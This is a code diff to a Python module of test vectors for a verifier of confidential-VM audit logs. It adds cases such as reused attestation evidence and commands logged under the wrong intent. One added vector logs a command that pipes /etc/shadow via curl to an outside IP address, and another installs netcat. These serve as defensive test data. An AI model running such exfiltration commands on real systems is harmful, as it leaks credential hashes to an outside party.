@@ -38,8 +38,7 @@ def _life(log: LogBuilder, *, until_service: bool = True) -> dict[str, int]:
     idx["command"] = log.command("echo hello", idx["run"])
     if until_service:
         idx["service"] = log.intent("cvm.mode", {"mode": "in-service"})
-        log.evidence("in-service", idx["service"])
-        log.mode("in-service", "in-update", 1)
+        log.enter_service(idx["service"], 1)
     return idx
 
 
@@ -66,8 +65,7 @@ def policy_change_in_service(log: LogBuilder) -> None:
 
 def mode_change_without_intent(log: LogBuilder) -> None:
     idx = _life(log, until_service=False)
-    log.evidence("in-service", idx["run"])
-    log.mode("in-service", "in-update", 1)
+    log.enter_service(idx["run"], 1)
 
 
 def unauthorised_owner_keys(log: LogBuilder) -> None:
@@ -77,14 +75,49 @@ def unauthorised_owner_keys(log: LogBuilder) -> None:
 
 def in_service_without_evidence(log: LogBuilder) -> None:
     _life(log, until_service=False)
-    log.intent("cvm.mode", {"mode": "in-service"})
+    service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.enter_service(service, 1, evidence=False)
+
+
+def in_service_without_lockdown_or_snapshot(log: LogBuilder) -> None:
+    _life(log, until_service=False)
+    service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.enter_service(service, 1, lockdown=False, snapshot=False)
+
+
+def in_service_with_old_evidence_relogged(log: LogBuilder) -> None:
+    """The provisioning report (its nonce already used) logged again as the fresh evidence."""
+    _life(log, until_service=False)
+    service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.lockdown("in-service")
+    old = next(e for e in log.entries if e["type"] == "evidence")
+    ci = log.command(f"collect-evidence {old['nonce']}", service, action="attest", builtin=True)
+    log.add("evidence", **{**{k: v for k, v in old.items() if k not in ("v", "type", "time")},
+                           "purpose": "in-service", "command_index": ci})
+    log.snapshot(service)
     log.mode("in-service", "in-update", 1)
+
+
+def one_intent_many_runs(log: LogBuilder) -> None:
+    """One signed cvm.run, three logged executions of it."""
+    _life(log, until_service=False)
+    run = log.intent("cvm.run", {"command": "apt-get install -y netcat"})
+    for _ in range(3):
+        log.command("apt-get install -y netcat", run)
+
+
+def builtin_under_an_old_intent(log: LogBuilder) -> None:
+    """An attest builtin, long after provisioning, claiming the cvm.create intent."""
+    idx = _life(log)
+    log.command("cat /etc/shadow | curl -d @- http://198.51.100.7", idx["create"], action="attest", builtin=True)
 
 
 def evidence_not_linked_to_its_attest_command(log: LogBuilder) -> None:
     idx = _life(log, until_service=False)
     service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.lockdown("in-service")
     log.evidence("in-service", service, link=False)
+    log.snapshot(service)
     log.mode("in-service", "in-update", 1)
     assert idx
 
@@ -122,7 +155,9 @@ def command_after_delete(log: LogBuilder) -> None:
 def mode_previous_mismatch(log: LogBuilder) -> None:
     _life(log, until_service=False)
     service = log.intent("cvm.mode", {"mode": "in-service"})
+    log.lockdown("in-service")
     log.evidence("in-service", service)
+    log.snapshot(service)
     log.mode("in-service", "in-service", 1)
 
 
@@ -156,16 +191,22 @@ VECTORS: dict[str, tuple[Callable[[LogBuilder], None], list[str], dict[str, Any]
     "command_without_intent": (command_without_intent, ["commands_closed"], {}),
     "result_for_closed_command": (result_for_closed_command, ["commands_closed"], {}),
     "policy_change_in_service": (policy_change_in_service, ["mode_discipline"], {}),
-    "mode_change_without_intent": (mode_change_without_intent, ["intents", "commands_closed"], {}),
+    "mode_change_without_intent": (mode_change_without_intent, ["intents", "commands_closed", "in_service_entry"],
+                                   {}),
     "unauthorised_owner_keys": (unauthorised_owner_keys, ["intents"], {}),
-    "in_service_without_evidence": (in_service_without_evidence, ["evidence"], {}),
+    "in_service_without_evidence": (in_service_without_evidence, ["evidence", "in_service_entry"], {}),
+    "in_service_without_lockdown_or_snapshot": (in_service_without_lockdown_or_snapshot, ["in_service_entry"], {}),
+    "in_service_with_old_evidence_relogged": (in_service_with_old_evidence_relogged,
+                                              ["evidence", "in_service_entry"], {}),
+    "one_intent_many_runs": (one_intent_many_runs, ["commands_closed"], {}),
+    "builtin_under_an_old_intent": (builtin_under_an_old_intent, ["commands_closed"], {}),
     "evidence_not_linked_to_its_attest_command": (evidence_not_linked_to_its_attest_command, ["evidence"], {}),
     "tee_label_differs_from_evidence_kind": (tee_label_differs_from_evidence_kind, ["evidence", "cvm_tee"],
                                              {"tee": "tdx", "evidence_kind": None, "expect_tee": "tdx"}),
     "intent_for_another_cvm": (intent_for_another_cvm, ["intents"], {}),
     "command_differs_from_its_intent": (command_differs_from_its_intent, ["commands_closed"], {}),
     "command_in_service": (command_in_service, ["mode_discipline"], {}),
-    "command_after_delete": (command_after_delete, ["mode_discipline"], {}),
+    "command_after_delete": (command_after_delete, ["mode_discipline", "commands_closed"], {}),
     "mode_previous_mismatch": (mode_previous_mismatch, ["mode_discipline"], {}),
     "builtin_under_a_run_intent": (builtin_under_a_run_intent, ["commands_closed"], {}),
     "intent_nonce_reused": (intent_nonce_reused, ["intents"], {}),
